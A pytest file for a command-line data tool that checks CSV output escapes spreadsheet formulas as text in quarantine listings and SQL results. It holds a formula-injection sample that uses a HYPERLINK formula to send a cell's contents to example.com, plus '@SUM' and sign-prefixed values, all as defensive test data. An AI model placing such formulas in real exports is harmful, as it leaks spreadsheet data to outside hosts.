"""Fault case 93: a delivered formula is kept as delivered, and leaves as text."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from typer.testing import CliRunner

from cli.main import app
from tests.cli.steward import ORDERS, employed
from tests.workspace.delivery.nights import remember
from tests.workspace.small_company import BUSINESS_DATE, Company

FORMULA = '=HYPERLINK("http://example.com?"&A1)'


def printed(*words: str | Path) -> list[list[str]]:
    done = CliRunner().invoke(app, [str(word) for word in words])
    assert done.exit_code == 0, done.output
    return list(csv.reader(io.StringIO(done.stdout, newline="")))


def test_quarantine_keeps_a_formula_as_delivered_and_prints_it_as_text(tmp_path: Path) -> None:
    steward = employed(tmp_path)
    quoted = FORMULA.replace('"', '""')
    steward.night(orders_1=f'{ORDERS}"{quoted}",1,C9,P1,2026-01-05,7\n@SUM(1),1,C1\n')
    kept = {row["code"] for row in steward.listed()["records"]}
    assert kept == {"ROW_ORPHAN", "ROW_ARITY"}
    header, *rows = printed("quarantine", "list", "--build", "--csv", "-w", tmp_path)
    text, number = header.index("raw_text"), header.index("record_number")
    assert {row[number]: row[text] for row in rows} == {
        "4": f'"{quoted}",1,C9,P1,2026-01-05,7',
        "5": "'@SUM(1),1,C1",
    }


def test_a_query_prints_formulas_of_a_release_as_text(tmp_path: Path) -> None:
    company = Company(root=tmp_path)
    remember(company.open(), BUSINESS_DATE)
    query = f"select '{FORMULA}' as name, 1 - 2 as n, '-5' as \"+a\""
    assert printed("sql", query, "--csv", "-w", tmp_path) == [
        ["name", "n", "'+a"],
        [f"'{FORMULA}", "-1", "'-5"],
    ]


@pytest.mark.parametrize("words", [("sql", "select 1"), ("quarantine", "list")])
def test_csv_and_json_at_once_are_refused(words: tuple[str, ...], tmp_path: Path) -> None:
    done = CliRunner().invoke(app, [*words, "--csv", "--json", "-w", str(tmp_path)])
    assert done.exit_code == 2
